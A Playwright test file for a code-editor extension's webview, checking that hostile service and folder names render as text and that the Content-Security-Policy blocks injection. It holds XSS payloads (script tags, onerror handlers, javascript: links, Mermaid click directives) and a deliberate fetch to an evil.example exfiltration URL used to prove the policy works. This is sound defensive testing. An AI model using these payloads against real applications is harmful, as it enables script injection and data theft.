// Names come from the user's code (package.json names, folder names): whatever they contain is drawn as
// text. Markup, Mermaid syntax and directives, entity look-alikes and unicode appear literally in the SVG;
// nothing is injected, nothing runs, no dialog opens, nothing is requested. Behind the server's escaping,
// the webview's own layer (Mermaid's strict security level) holds too.
// The panel's Content-Security-Policy (src/extension/html.ts) holds while the webview works: no violation
// while drawing, switching theme, focusing or exporting; nothing requested but the page, its stylesheet,
// its script and the ELK chunk, all from the local origin. And the policy really is enforced: the listener
// that counts violations sees the ones a sanitizer bypass would cause, and an inline script never runs.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import type { StateMap } from '../../../src/core/model/types';
import { contentSecurityPolicy } from '../../../src/extension/html';
import type { FromWebview, PanelState } from '../../../src/protocol/webview';
import { launchBrowser } from '../harness/browser';
import { MEDIA, assertClean, openWebview, startMediaServer, svgNodes, unexpectedRequests, type MediaServer, type WebviewPage } from '../harness/webviewPage';
import { HOSTILE_NAMES, analyzeFixture, analyzeWorkspace, folderStatus, hostileWorkspace, oneNodeWorkspace, panelState, twentyNodeWorkspace } from './maps';

const norm = (s: string) => s.replace(/\s+/g, ' ').trim();

/** Elements and attributes no label may produce, anywhere in `root` (a document or an element). */
function injected(root: ParentNode): string[] {
  const found: string[] = [];
  // (an <a> without a link is harmless: Mermaid's strict mode leaves one where a `click … href` was)
  for (const el of Array.from(root.querySelectorAll('img, iframe, object, embed, a[*|href], svg svg, image, use, foreignObject script, foreignObject style, svg script'))) {
    found.push(`<${el.tagName.toLowerCase()}> in ${el.parentElement?.closest('[id]')?.id ?? 'the page'}`);
  }
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const a of Array.from(el.attributes)) {
      if (/^on/i.test(a.name)) found.push(`${a.name}="${a.value}" on <${el.tagName.toLowerCase()}>`);
      if (/href$/i.test(a.name) && /^\s*javascript:/i.test(a.value)) found.push(`${a.name}="${a.value}" on <${el.tagName.toLowerCase()}>`);
    }
  }
  return found;
}

const SCRIPT_LABEL = `</p><script>window.__pwned='label'</script><p>`;

describe('the webview in Chromium: hostile names and the Content-Security-Policy', () => {
  let server: MediaServer;
  let browser: Browser;

  before(async () => {
    [server, browser] = await Promise.all([startMediaServer(), launchBrowser()]);
  });

  after(async () => {
    await browser?.close();
    await server?.close();
  });

  describe('hostile names render as text', () => {
    let w: WebviewPage;
    let map: StateMap;
    let state: PanelState;

    before(async () => {
      map = analyzeWorkspace(hostileWorkspace());
      state = panelState(map, 'hostile');
      w = await openWebview(browser, server, { theme: 'dark', width: 1280, height: 1750 });
    });

    after(async () => {
      await w?.close();
    });

    it('every hostile service name appears literally in its node, tooltip and the service filter', async () => {
      assert.deepEqual(map.services.map((s) => s.name).sort(), [...HOSTILE_NAMES].sort(), 'precondition: the analyzer kept the names as written');
      const r = await w.render(state, 'the map of hostile names');
      assert.equal(r.nodes, map.services.length + 2, 'every service, Redis and process memory');
      const nodes = await svgNodes(w.page);
      for (const s of map.services) {
        const id = state.view!.ids!.services[s.id];
        const n = nodes.find((x) => new RegExp(`(^|-)flowchart-${id}-\\d+$`).test(x.id));
        assert.ok(n, `no node drawn for the service named ${JSON.stringify(s.name)}`);
        assert.ok(norm(n.text).startsWith(norm(s.name)), `the node of ${JSON.stringify(s.name)} reads ${JSON.stringify(n.text)}`);
        assert.deepEqual(JSON.parse(n.target!), { kind: 'service', service: s.id }, `the target of ${JSON.stringify(s.name)} keeps its folder ${JSON.stringify(s.id)}`);
        const title = await w.page.$eval(`[id="${n.id}"] > title`, (t) => t.textContent);
        assert.equal(title, `Service ${s.name}: show its claim, hazards and code`);
      }
      const options = await w.page.locator('#service option').allTextContents();
      for (const name of HOSTILE_NAMES) assert.ok(options.includes(name), `the service filter lists ${JSON.stringify(name)}`);
      await w.screenshot('webview-hostile.png');
    });

    it('nothing was injected, nothing ran, no Mermaid directive took effect', async () => {
      const found = await w.page.evaluate(`(${injected.toString()})(document)`) as string[];
      assert.deepEqual(found, [], 'elements or attributes injected by a label');
      const scripts = await w.page.$$eval('script', (ss) => ss.map((s) => (s as HTMLScriptElement).src || `inline: ${s.textContent}`));
      assert.deepEqual(scripts, [`${server.origin}/media/dist/webview.js`], 'the page\'s own script is its only script');
      const styles = await w.page.$$eval('#canvas style', (ss) => ss.map((s) => s.textContent ?? ''));
      assert.equal(styles.length, 1, 'only Mermaid\'s own <style> in the SVG');
      assert.ok(!styles[0].includes('display:none'), 'the injected style rule is not in it');
      assert.equal(await w.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined, 'no injected script or handler ran');
      assert.deepEqual(w.dialogs, [], 'no alert');
      // %%{init: … "primaryColor": "#ff0000" …}%% in a name did not reconfigure Mermaid: nodes keep the theme's colour
      const fills = await w.page.$$eval('#canvas g.node > rect', (rs) => [...new Set(rs.map((r) => getComputedStyle(r).fill))]);
      assert.deepEqual(fills, ['rgb(32, 32, 32)'], 'every service node in the dark theme\'s widget colour');
      const hidden = await w.page.$$eval('#canvas g.node', (gs) => gs.filter((g) => getComputedStyle(g).display === 'none').length);
      assert.equal(hidden, 0, 'no node hidden by an injected style');
      await assertClean(w, server.origin, 'the hostile map');
    });

    it('clicking a hostile node posts its folder unchanged', async () => {
      const s = map.services.find((x) => x.name.startsWith('<img'))!;
      const from = (await w.posted()).length;
      await w.page.click('#zoomFit');
      const box = await w.page.locator(`#canvas g.node[id*="flowchart-${state.view!.ids!.services[s.id]}-"]`).boundingBox();
      assert.ok(box, 'the <img> service is drawn');
      await w.page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
      assert.deepEqual((await w.posted()).slice(from), [{ type: 'select', target: { kind: 'service', service: 'services/a "quoted" <b> dir' } }]);
    });

    it('the exported SVG carries no markup from the labels', async () => {
      const from = (await w.posted()).length;
      await w.send({ type: 'exportSvg', requestId: 1 });
      await w.page.waitForFunction((n) => window.__posted.length > n, from);
      const answer = (await w.posted())[from] as Extract<FromWebview, { type: 'svg' }>;
      assert.ok(answer.svg, `an SVG: ${answer.error}`);
      // parsed as the .svg file it becomes: XML
      const found = await w.page.evaluate(`(() => {
        const doc = new DOMParser().parseFromString(${JSON.stringify(answer.svg)}, 'image/svg+xml');
        const bad = doc.querySelector('parsererror');
        if (bad) return ['the export is not well-formed XML: ' + bad.textContent];
        if (doc.documentElement.nodeName !== 'svg') return ['no <svg> in the export'];
        return (${injected.toString()})(doc);
      })()`) as string[];
      assert.deepEqual(found, [], 'markup from a label in the exported SVG');
      for (const name of HOSTILE_NAMES.slice(0, 3)) {
        const escaped = name.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
        assert.ok(answer.svg.includes(escaped) || answer.svg.includes(escaped.replace(/"/g, '&quot;')), `the exported SVG has ${JSON.stringify(name)} as escaped text`);
      }
    });

    it('the hostile-names fixture: <script>, -->, %%, |, backticks, quotes and unicode drawn as text', async () => {
      const fixture = analyzeFixture('hostile-names');
      const r = await w.render(panelState(fixture, 'hostile-names'), 'the hostile-names fixture');
      assert.equal(r.nodes, fixture.services.length + fixture.stores.filter((s) => s.kind !== 'env').length);
      const text = norm((await svgNodes(w.page)).map((n) => n.text).join(' | '));
      for (const s of fixture.services) assert.ok(text.includes(norm(s.name)), `${JSON.stringify(s.name)} not drawn literally in: ${text}`);
      assert.deepEqual(await w.page.evaluate(`(${injected.toString()})(document)`), []);
      assert.deepEqual(w.dialogs, []);
      await assertClean(w, server.origin, 'the hostile-names fixture');
    });

    it('defence in depth: Mermaid text that itself carries markup and a click directive (an escaping bug upstream) runs nothing', async () => {
      // the server escapes every label (render/mermaid.ts escapeLabel); this view pretends it did not, to
      // check the webview's own layer: Mermaid's strict security level (sanitised labels, no `click` calls)
      const state = panelState(analyzeWorkspace(oneNodeWorkspace()), 'raw', { version: 9 });
      const view = state.view!;
      const svc = view.ids!.services['services/health-api'];
      view.mermaid = view.mermaid!
        .replace(/svc0\["[^"]*"\]/, `svc0["<b onmouseover=alert('hover')>raw</b><script>alert('script')</script><iframe srcdoc=x></iframe>"]`)
        .replace(/\n$/, `\n  click ${svc} call alert("click")\n  click ${svc} href "javascript:alert('href')"\n`);
      assert.match(view.mermaid, /click svc0 call alert/, 'precondition: the directive is in the text');
      await w.render(state, 'the map with raw markup in its Mermaid text');
      const node = w.page.locator(`#canvas g.node[id*="flowchart-${svc}-"]`);
      await w.page.click('#zoomFit');
      await node.hover();
      const from = (await w.posted()).length;
      await node.click();
      await w.page.waitForTimeout(200);
      assert.deepEqual(w.dialogs, [], 'no alert from a handler, a script, a click call or a javascript: link');
      assert.deepEqual((await w.posted()).slice(from), [{ type: 'select', target: { kind: 'service', service: 'services/health-api' } }], 'the click is the webview\'s own');
      assert.deepEqual(await w.page.evaluate(`(${injected.toString()})(document)`), [], 'markup that survived');
      assert.equal(await w.page.locator('#canvas script').count(), 0);
      await assertClean(w, server.origin, 'the raw Mermaid text');
    });

    it('hostile folder names in the folder picker and the empty state are text', async () => {
      const evil = `<img src=x onerror="window.__pwned='folder'"> "folder" & co`;
      const a = folderStatus(map, evil);
      const b = { ...folderStatus(map, 'other'), folder: 'file:///workspace/other' };
      await w.send({ type: 'state', state: { folders: [a, b], folder: a.folder, filter: {}, empty: { reason: 'no-services', message: `No services found in ${evil}.` } } });
      await w.page.locator('#empty').waitFor({ state: 'visible' });
      assert.equal(await w.page.locator('#emptyMessage').innerText(), `No services found in ${evil}.`);
      assert.ok(await w.page.locator('#folderLabel').isVisible(), 'two folders: the picker shows');
      assert.deepEqual(await w.page.locator('#folder option').allTextContents(), [evil, 'other']);
      const outside = `[...(${injected.toString()})(document.querySelector("#empty")), ...(${injected.toString()})(document.querySelector("header.toolbar"))]`;
      assert.deepEqual(await w.page.evaluate(outside), [], 'markup injected into the empty state or the toolbar');
      assert.equal(await w.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
      await assertClean(w, server.origin, 'hostile folder names');
    });
  });

  describe('CSP and network', () => {
    let w: WebviewPage;
    let twenty: StateMap;
    /** Where this page's requests start in the server's log (the hostile-names page came first). */
    let servedFrom: number;

    before(async () => {
      twenty = analyzeWorkspace(twentyNodeWorkspace());
      servedFrom = server.served.length;
      w = await openWebview(browser, server, { theme: 'dark', width: 1280, height: 1750 });
    });

    after(async () => {
      await w?.close();
    });

    it('the page carries the policy html.ts makes, and its one script the nonce', async () => {
      const page = await w.page.evaluate(() => ({
        csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'),
        scripts: Array.from(document.scripts).map((s) => ({ src: s.src, nonce: s.nonce ?? '' })),
      }));
      assert.equal(page.scripts.length, 1, 'one script');
      assert.equal(page.scripts[0].src, `${server.origin}${MEDIA.script}`);
      assert.match(page.scripts[0].nonce, /^[A-Za-z0-9]{20,}$/);
      assert.equal(page.csp, contentSecurityPolicy(server.origin, page.scripts[0].nonce));
    });

    it('drawing maps (dagre and ELK, hostile labels), theme changes, focus and export: no violation, nothing off-origin', async () => {
      await w.render(panelState(twenty, 'shop'), 'the 20-node map');
      await w.render(panelState(analyzeWorkspace(hostileWorkspace()), 'hostile'), 'the hostile map');
      await w.render(panelState(twenty, 'shop', { layout: 'elk', version: 2 }), 'the 20-node map with ELK');
      await w.afterDraw(() => w.setTheme('light'), 'the redraw in the light theme');
      await w.afterDraw(() => w.setTheme('high-contrast'), 'the redraw in high contrast');
      await w.send({ type: 'focus', target: { kind: 'service', service: 'services/cart-api' } });
      await w.send({ type: 'exportSvg', requestId: 1 });
      await w.page.waitForFunction(() => window.__posted.some((m) => m.type === 'svg'));

      assert.deepEqual(await w.cspViolations(), [], 'CSP violations');
      assert.deepEqual(w.console.filter((c) => c.type === 'error' || c.type === 'warning'), [], 'console errors and warnings');
      assert.deepEqual(w.pageErrors, [], 'uncaught errors');
      assert.deepEqual(unexpectedRequests(w.requests, server.origin), [], 'requests to anything but the page and its three files');
      assert.deepEqual([...w.requests].sort(), [`${server.origin}/panel?theme=dark`, ...Object.values(MEDIA).map((p) => `${server.origin}${p}`)].sort(),
        'each of the page, panel.css, webview.js and elk.js requested exactly once');
      assert.deepEqual(server.served.slice(servedFrom).filter((p) => p !== '/favicon.ico').sort(), ['/panel?theme=dark', MEDIA.script, MEDIA.style, MEDIA.elk].sort(), 'what reached the server');
    });

    it('an inline <script> in a label is neither inserted nor run', async () => {
      const map = analyzeWorkspace({
        'package.json': JSON.stringify({ name: 'root', private: true, workspaces: ['services/*'] }),
        'services/x/package.json': JSON.stringify({ name: SCRIPT_LABEL, version: '1.0.0', main: 'src/index.ts', dependencies: { express: '*' } }),
        'services/x/src/index.ts': `import express from 'express';\nconst seen = new Set<string>();\nconst app = express();\napp.get('/', (req, res) => { seen.add(req.ip!); res.end(String(seen.size)); });\napp.listen(1);\n`,
      });
      await w.render(panelState(map, 'script', { version: 3 }), 'the map with a <script> label');
      const nodes = await svgNodes(w.page);
      assert.ok(nodes.some((n) => n.text.startsWith(SCRIPT_LABEL)), `the label is drawn as text: ${nodes.map((n) => n.text).join(' | ')}`);
      const scripts = await w.page.$$eval('script', (ss) => ss.map((s) => (s as HTMLScriptElement).src || `inline: ${s.textContent}`));
      assert.deepEqual(scripts.sort(), [`${server.origin}${MEDIA.elk}`, `${server.origin}${MEDIA.script}`], 'no script element but the page\'s and the ELK chunk');
      assert.equal(await w.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined, 'the label\'s script did not run');
      assert.deepEqual(await w.cspViolations(), []);
    });

    it('the policy is enforced and violations are seen: inline scripts and handlers, eval, off-site loads all blocked', async () => {
      // the last test of this page: it makes violations on purpose
      const before = { requests: w.requests.length, csp: (await w.cspViolations()).length };
      const result = await w.page.evaluate(async () => {
        const out: Record<string, string> = {};
        const canvas = document.getElementById('canvas')!;
        // what a sanitizer bypass in a label would put into the page
        canvas.innerHTML = `<img src="nothing-here.png" onerror="window.__pwned='handler'"><img src="https://evil.example/leak.png">`;
        const s = document.createElement('script');
        s.textContent = `window.__pwned = 'inline'`;
        document.body.appendChild(s);
        // in a task of the page's own (the debugger's evaluate is exempt from the policy)
        out.eval = await new Promise<string>((resolve) => setTimeout(() => {
          try {
            resolve(String(new Function('return 1 + 1')()));
          } catch (e) {
            resolve((e as Error).name);
          }
        }, 0));
        try {
          await fetch('https://evil.example/exfil?d=1');
          out.fetch = 'sent';
        } catch (e) {
          out.fetch = (e as Error).name;
        }
        await new Promise((r) => setTimeout(r, 300));
        out.pwned = String((window as unknown as { __pwned?: unknown }).__pwned);
        return out;
      });
      assert.deepEqual(result, { eval: 'EvalError', fetch: 'TypeError', pwned: 'undefined' }, 'eval and fetch blocked, no injected code ran');
      const directives = new Set((await w.cspViolations()).slice(before.csp).map((v) => `${v.directive} ${v.blockedURI}`));
      for (const want of ['script-src-attr inline', 'script-src-elem inline', 'script-src eval', 'img-src https://evil.example/leak.png', 'connect-src https://evil.example/exfil?d=1']) {
        assert.ok(directives.has(want), `no "${want}" violation reported; reported: ${[...directives].join(', ')}`);
      }
      // Chromium reports the blocked image as a request, failed by the policy before it left
      const offsite = w.requests.slice(before.requests).filter((u) => !u.startsWith(`${server.origin}/`));
      assert.deepEqual(offsite, ['https://evil.example/leak.png'], 'only the image tried another host');
      assert.deepEqual(w.failedRequests.filter((f) => f.url === offsite[0]).map((f) => f.error), ['csp'], 'and the policy stopped it (Chromium: "csp")');
    });
  });
});
